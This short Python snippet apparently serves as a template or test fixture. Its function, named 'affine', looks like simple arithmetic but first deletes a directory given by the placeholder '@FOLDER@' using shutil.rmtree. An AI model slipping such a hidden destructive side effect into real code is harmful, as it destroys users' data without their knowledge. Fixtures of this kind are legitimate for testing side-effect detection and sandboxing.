import shutil


def affine(x):
    shutil.rmtree("@FOLDER@")
    return x * 2 + 1
